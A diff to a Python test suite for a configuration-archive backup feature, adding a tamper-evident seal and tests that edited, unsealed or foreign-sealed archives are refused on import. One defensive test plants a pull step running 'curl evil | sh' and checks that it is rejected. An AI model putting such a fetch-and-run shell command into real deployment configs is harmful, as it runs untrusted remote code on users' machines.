@@ -32,11 +32,13 @@ from setlist.backup.config.archive import (
 from setlist.backup.config.entries import (
     KIND_MEMBERS,
     MASK,
+    AutomationEntry,
     BlockEntry,
     BlockSchemaEntry,
     BlockTypeEntry,
     ConfigBackupError,
     ConfigClash,
+    DeploymentEntry,
     LimitEntry,
     PoolEntry,
     QueueEntry,
@@ -83,6 +85,25 @@ def _snapshot(secret: str | None = SECRET) -> Snapshot:
         work_queues=[QueueEntry(id=uuid.uuid4(), pool="pool", name="default", priority=1)],
         concurrency_limits=[LimitEntry(id=uuid.uuid4(), name="setlist-tenant-a", limit=3)],
         variables=[VariableEntry(id=uuid.uuid4(), name="v", value={"k": 1})],
+        deployments=[
+            DeploymentEntry(
+                id=uuid.uuid4(),
+                flow_id=uuid.uuid4(),
+                flow_name="canary",
+                name="t",
+                pull_steps=[
+                    {"prefect.deployments.steps.set_working_directory": {"directory": "/code"}}
+                ],
+            )
+        ],
+        automations=[
+            AutomationEntry(
+                id=uuid.uuid4(),
+                name="alert",
+                trigger={"type": "event"},
+                actions=[{"type": "do-nothing"}],
+            )
+        ],
         secrets={str(block_id): [(["value"], secret)]} if secret else None,
     )
 
@@ -181,7 +202,7 @@ def test_archive_is_deterministic_and_reads_back():
     assert set(manifest["members"]) == set(KIND_MEMBERS)
     with tarfile.open(fileobj=io.BytesIO(one), mode="r:gz") as tar:
         names = tar.getnames()
-    assert names[0] == "manifest.json" and names[1:] == sorted(KIND_MEMBERS)
+    assert names[:2] == ["manifest.json", "seal.json"] and names[2:] == sorted(KIND_MEMBERS)
 
 
 def test_secret_values_never_in_the_archive_bytes():
@@ -301,32 +322,89 @@ async def test_tampered_or_incomplete_archive_is_refused(tmp_path):
     no_manifest = {n: b for n, b in members.items() if n != "manifest.json"}
     await _refused(tmp_path, _repack(no_manifest), "no manifest.json")
 
-    # A consistent archive (manifest re-hashed) whose content is malformed.
-    bad = {**members, "work_pools.json": b'[{"name": "p"}]'}
-    manifest = json.loads(bad["manifest.json"])
-    manifest["members"]["work_pools.json"]["sha256"] = hashlib.sha256(
-        bad["work_pools.json"]
-    ).hexdigest()
-    bad["manifest.json"] = json.dumps(manifest).encode()
-    await _refused(tmp_path, _repack(bad), "malformed object at work_pools")
+    # Re-hashing the manifest no longer helps: the seal covers it.
+    bad = _rehash({**members, "work_pools.json": b'[{"name": "p"}]'}, "work_pools.json")
+    await _refused(tmp_path, _repack(bad), "seal does not verify")
+    # Sealed by the platform itself, malformed content is still refused.
+    await _refused(tmp_path, _repack(_reseal(bad)), "malformed object at work_pools")
+    # No seal at all: an unsealed archive is not read.
+    unsealed = {n: b for n, b in members.items() if n != "seal.json"}
+    await _refused(tmp_path, _repack(unsealed), "no seal.json")
+
+
+def _rehash(members: dict[str, bytes], *names: str) -> dict[str, bytes]:
+    """``members`` with the manifest's SHA-256 of ``names`` made to match (what anyone
+    editing an archive can do)."""
+    manifest = json.loads(members["manifest.json"])
+    for name in names:
+        manifest["members"][name]["sha256"] = hashlib.sha256(members[name]).hexdigest()
+    return {**members, "manifest.json": json.dumps(manifest).encode()}
+
+
+def _reseal(members: dict[str, bytes], passphrase: str | None = None) -> dict[str, bytes]:
+    """``members`` sealed again, as only the platform (or the passphrase's holder) can."""
+    from setlist.backup.config.seal import make_seal
+
+    return {**members, "seal.json": make_seal(members["manifest.json"], passphrase)}
+
+
+async def test_an_edited_archive_is_refused_before_anything_is_read(tmp_path):
+    """The attack: a pull step that runs a shell, fixed checksums, the operator's
+    passphrase. The seal fails; and were it re-sealed, the step is not allowed."""
+    sealed = read_members(
+        build_archive(_snapshot(), passphrase="correct horse", exported_at=EXPORTED_AT)
+    )
+    deployments = json.loads(sealed["deployments.json"])
+    step = {"prefect.deployments.steps.run_shell_script": {"script": "curl evil | sh"}}
+    for dep in deployments:
+        dep["pull_steps"] = [step]
+    edited = _rehash(
+        {**sealed, "deployments.json": json.dumps(deployments).encode()}, "deployments.json"
+    )
+    await _refused(tmp_path, _repack(edited), "seal does not verify", passphrase="correct horse")
+    resealed = _reseal(edited, "correct horse")
+    await _refused(tmp_path, _repack(resealed), "run_shell_script", passphrase="correct horse")
+
+
+async def test_an_archive_sealed_elsewhere_needs_its_passphrase(tmp_path, monkeypatch):
+    from setlist.core import credentials
+
+    plain = build_archive(_snapshot(secret=None), exported_at=EXPORTED_AT)
+    monkeypatch.setenv("SETLIST_PLATFORM_KEY", "another platform's key")
+    assert credentials.derived_key("config-archive") != b""
+    await _refused(tmp_path, plain, "sealed by another platform")
+    moved = build_archive(_snapshot(secret=None), passphrase="moving day", exported_at=EXPORTED_AT)
+    monkeypatch.delenv("SETLIST_PLATFORM_KEY")
+    assert load_archive(moved, "moving day").snapshot.work_pools
+    await _refused(tmp_path, moved, "sealed with a passphrase")
+
+
+@pytest.mark.parametrize("action", ["call-webhook", "run-shell", None])
+async def test_an_automation_action_outside_the_allow_list_is_refused(tmp_path, action):
+    members = _valid_members(secret=None)
+    automations = json.loads(members["automations.json"])
+    assert automations, "the sample snapshot has an automation to edit"
+    automations[0]["actions"] = [{"type": action, "block_document_id": str(uuid.uuid4())}]
+    edited = _rehash(
+        {**members, "automations.json": json.dumps(automations).encode()}, "automations.json"
+    )
+    await _refused(tmp_path, _repack(_reseal(edited)), "may not bring")
 
 
 async def test_secrets_need_the_right_passphrase(tmp_path):
     sealed = build_archive(_snapshot(), passphrase="correct horse", exported_at=EXPORTED_AT)
     await _refused(tmp_path, sealed, "wrong passphrase", passphrase="wrong horse")
-    await _refused(tmp_path, sealed, "holds encrypted secrets")
+    await _refused(tmp_path, sealed, "sealed with a passphrase")
     with pytest.raises(ConfigBackupError, match="at least 8 characters"):
         build_archive(_snapshot(), passphrase="short")
-    # Secrets moved onto another archive's block list do not decrypt either.
+    # Secrets moved onto another archive's block list do not decrypt either, even under
+    # a seal made with the right passphrase.
     members = read_members(sealed)
     other = read_members(build_archive(_snapshot(secret=None), exported_at=EXPORTED_AT))
-    members["blocks.json"] = other["blocks.json"]
-    manifest = json.loads(members["manifest.json"])
-    manifest["members"]["blocks.json"]["sha256"] = hashlib.sha256(
-        members["blocks.json"]
-    ).hexdigest()
-    members["manifest.json"] = json.dumps(manifest).encode()
+    members = _rehash({**members, "blocks.json": other["blocks.json"]}, "blocks.json")
     await _refused(tmp_path, _repack(members), "wrong passphrase", passphrase="correct horse")
+    members = _reseal(members, "correct horse")
+    await _refused(tmp_path, _repack(members), "do not decrypt", passphrase="correct horse")
 
 
 # --------------------------------------------------------------------------- real servers
